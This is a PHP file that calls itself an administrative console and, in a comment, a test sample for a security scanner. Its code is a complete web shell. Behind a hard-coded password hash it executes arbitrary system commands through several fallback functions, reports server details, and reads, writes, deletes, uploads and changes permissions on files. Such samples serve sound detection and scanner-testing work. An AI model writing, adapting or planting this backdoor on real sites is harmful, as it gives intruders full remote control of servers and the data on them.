<?php
// Small administrative console (test sample written for Podwarden's scanner tests).
@error_reporting(0);
@set_time_limit(0);
@ini_set('max_execution_time', 0);
session_start();

$auth = 'd8578edf8458ce06fbc5bb76a58c5ca4';
if (!isset($_SESSION['ok'])) {
    if (isset($_POST['pw']) && md5($_POST['pw']) === $auth) {
        $_SESSION['ok'] = 1;
    } else {
        echo '<form method="post"><input type="password" name="pw"><input type="submit"></form>';
        exit;
    }
}

function run_command($cmd) {
    $out = '';
    if (function_exists('system')) {
        ob_start();
        system($cmd);
        $out = ob_get_clean();
    } elseif (function_exists('passthru')) {
        ob_start();
        passthru($cmd);
        $out = ob_get_clean();
    } elseif (function_exists('shell_exec')) {
        $out = shell_exec($cmd);
    } elseif (function_exists('exec')) {
        exec($cmd, $lines);
        $out = implode("\n", $lines);
    } elseif (function_exists('popen')) {
        $h = popen($cmd, 'r');
        while (!feof($h)) { $out .= fread($h, 4096); }
        pclose($h);
    } elseif (function_exists('proc_open')) {
        $p = proc_open($cmd, array(1 => array('pipe', 'w')), $pipes);
        $out = stream_get_contents($pipes[1]);
        proc_close($p);
    }
    return $out;
}

function perms_string($file) {
    $p = fileperms($file);
    return substr(sprintf('%o', $p), -4);
}

function owner_of($file) {
    if (function_exists('posix_getpwuid')) {
        $u = posix_getpwuid(fileowner($file));
        $g = posix_getgrgid(filegroup($file));
        return $u['name'] . '/' . $g['name'];
    }
    return fileowner($file) . '/' . filegroup($file);
}

$dir = isset($_REQUEST['d']) ? $_REQUEST['d'] : getcwd();
@chdir($dir);

echo '<pre>';
echo 'Uname: ' . php_uname() . "\n";
echo 'User: ' . getmyuid() . ' (' . get_current_user() . ")\n";
echo 'Safe mode: ' . (ini_get('safe_mode') ? 'ON' : 'OFF') . "\n";
echo 'Disabled: ' . ini_get('disable_functions') . "\n";
echo 'Free: ' . round(disk_free_space($dir) / 1048576) . " MB\n";
echo '</pre>';

$action = isset($_POST['a']) ? $_POST['a'] : '';
if ($action === 'cmd') {
    echo '<pre>' . htmlspecialchars(run_command($_POST['c'])) . '</pre>';
} elseif ($action === 'view') {
    echo '<pre>' . htmlspecialchars(file_get_contents($_POST['f'])) . '</pre>';
} elseif ($action === 'save') {
    $fp = fopen($_POST['f'], 'w');
    fwrite($fp, $_POST['content']);
    fclose($fp);
} elseif ($action === 'delete') {
    unlink($_POST['f']);
} elseif ($action === 'upload') {
    move_uploaded_file($_FILES['u']['tmp_name'], $dir . '/' . $_FILES['u']['name']);
} elseif ($action === 'chmod') {
    chmod($_POST['f'], octdec($_POST['mode']));
}

echo '<table>';
foreach (scandir($dir) as $entry) {
    $path = $dir . '/' . $entry;
    echo '<tr><td>' . htmlspecialchars($entry) . '</td><td>' . filesize($path) . '</td><td>'
        . perms_string($path) . '</td><td>' . owner_of($path) . '</td></tr>';
}
echo '</table>';
?>
<form method="post"><input type="hidden" name="a" value="cmd"><input name="c" size="60"><input type="submit" value="Execute"></form>
<form method="post" enctype="multipart/form-data"><input type="hidden" name="a" value="upload"><input type="file" name="u"><input type="submit" value="Upload"></form>
